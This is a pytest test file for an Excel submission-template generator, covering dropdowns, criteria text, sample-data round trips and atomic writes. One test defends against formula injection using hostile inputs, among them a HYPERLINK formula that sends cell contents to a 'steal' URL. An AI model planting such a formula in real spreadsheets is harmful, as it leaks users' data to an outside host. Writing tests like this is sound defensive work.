"""The Excel submission template: dropdowns from the framework, the criteria in full, the round trip —
the template filled with the 65 sample rows ingests and validates with no finding — and the framework's
text written as text, never as formulas, in a file that appears whole or not at all."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook
from openpyxl.utils import column_index_from_string
from typer.testing import CliRunner

from reporting.cli import app
from reporting.framework import Framework, load_framework
from reporting.intake.readers import ReceivedFile, assemble_package, read_received
from reporting.intake.submission_template import write_submission_template
from reporting.intake.validate import validate_package
from reporting.vocabulary import EVIDENCE_COLUMNS
from tests.conftest import SAMPLE

FRAMEWORK = SAMPLE / "framework.yaml"


def test_template_command_writes_columns_dropdowns_and_criteria(tmp_path: Path) -> None:
    out = tmp_path / "submission-template.xlsx"
    result = CliRunner().invoke(app, ["template", "--framework", str(FRAMEWORK), "--out", str(out)])
    assert result.exit_code == 0, result.output
    workbook = load_workbook(out)
    assert workbook.sheetnames == ["evidence", "instructions", "lists"]
    assert workbook["lists"].sheet_state == "hidden"
    evidence = workbook["evidence"]
    header = [c.value for c in evidence[1]]
    assert header == [*EVIDENCE_COLUMNS, "typology", "gender_specific", "submitted_by"]
    assert evidence.freeze_panes == "A2"
    assert evidence.column_dimensions["I"].width == 60  # result_achieved

    lists = workbook["lists"]
    dropdowns = {}
    for validation in evidence.data_validations.dataValidation:
        column = header[
            column_index_from_string(str(validation.sqref).split(":")[0].rstrip("0123456789")) - 1
        ]
        sheet_range = validation.formula1.removeprefix("=lists!").replace("$", "")
        dropdowns[column] = [c.value for (c,) in lists[sheet_range]]
    assert dropdowns["region"] == [
        "Africa",
        "Americas",
        "Arab States",
        "Asia and the Pacific",
        "Europe and Central Asia",
    ]
    assert dropdowns["indicator"] == ["7.1", "7.2"]
    assert dropdowns["criterion"] == [1, 2, 3, 4]
    assert dropdowns["gender_specific"] == ["yes", "no"]
    assert len(dropdowns["typology"]) == 5

    framework = load_framework(FRAMEWORK)
    instructions = "\n".join(
        str(v) for row in workbook["instructions"].iter_rows(values_only=True) for v in row
    )
    for outcome in framework.outcomes:
        for indicator in outcome.indicators:
            assert indicator.title in instructions
            for criterion in indicator.criteria:
                assert criterion.text in instructions  # in full, not cut


def test_the_filled_template_ingests_with_zero_findings(tmp_path: Path) -> None:
    framework = load_framework(FRAMEWORK)
    template = write_submission_template(framework, tmp_path / "template.xlsx")
    rows = pd.read_csv(SAMPLE / "evidence" / "evidence.csv", dtype=str, keep_default_na=False)
    workbook = load_workbook(template)
    sheet = workbook["evidence"]
    header = [c.value for c in sheet[1]]
    for record in rows.to_dict("records"):
        typed = {**record, "criterion": int(record["criterion"])}  # a number, as Excel keeps it
        sheet.append([typed.get(column) for column in header])
    filled = io.BytesIO()
    workbook.save(filled)

    received = ReceivedFile("evidence/filled.xlsx", "evidence", filled.getvalue())
    tables = read_received(received)
    assert [t["source_sheet"].iloc[0] for t in tables] == ["evidence"]  # instructions, lists: not tables
    package = assemble_package(tmp_path, framework, (received,), [tables])
    checked = validate_package(package)
    assert len(package.evidence) == 65
    assert checked.findings[checked.findings["severity"].isin(["error", "critical"])].empty
    assert len(checked.evidence.clean) == 65
    pd.testing.assert_series_equal(
        checked.evidence.clean["result_achieved"], rows["result_achieved"], check_names=False
    )


HYPERLINK = '=HYPERLINK("http://example.org/steal?d="&A1,"click")'


def hostile_framework() -> Framework:
    """The sample framework with formulas, and a control character, where a framework has text."""
    data = yaml.safe_load(FRAMEWORK.read_text(encoding="utf-8"))
    outcome = data["outcomes"][0]
    outcome["id"] = "@SUM(1+1)"
    outcome["title"] = "+" + outcome["title"]["en"]  # the sample gives its texts in en, fr and es
    indicator = outcome["indicators"][0]
    indicator["id"] = "-7.1"
    indicator["title"] = "=" + indicator["title"]["en"]
    indicator["reportability"] = "\tAt least two criteria\x07"
    indicator["criteria"][0]["text"] = HYPERLINK
    return Framework.model_validate(data)


def test_framework_text_is_written_as_text_never_as_a_formula(tmp_path: Path) -> None:
    framework = hostile_framework()
    outcome = framework.outcomes[0]
    workbook = load_workbook(write_submission_template(framework, tmp_path / "template.xlsx"))
    cells = [c for name in ("instructions", "lists") for row in workbook[name].iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {
        "'" + HYPERLINK,  # criterion
        "'" + outcome.title,
        "'" + outcome.indicators[0].title,
        "'\tAt least two criteria\ufffd",  # reportability, without the control character
        "'@SUM(1+1)",  # outcome id in the dropdown list
        "Outcome @SUM(1+1)",
        "'-7.1",  # indicator id in the dropdown list
    } <= {c.value for c in cells}


def test_an_interrupted_write_leaves_the_earlier_template_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl import Workbook

    out = write_submission_template(load_framework(FRAMEWORK), tmp_path / "template.xlsx")
    before = out.read_bytes()

    def killed(workbook: Workbook, filename: str | Path) -> None:
        Path(filename).write_bytes(before[:100])  # half a file, then the command dies
        raise KeyboardInterrupt

    monkeypatch.setattr(Workbook, "save", killed)
    with pytest.raises(KeyboardInterrupt):
        write_submission_template(hostile_framework(), out)
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["template.xlsx"]
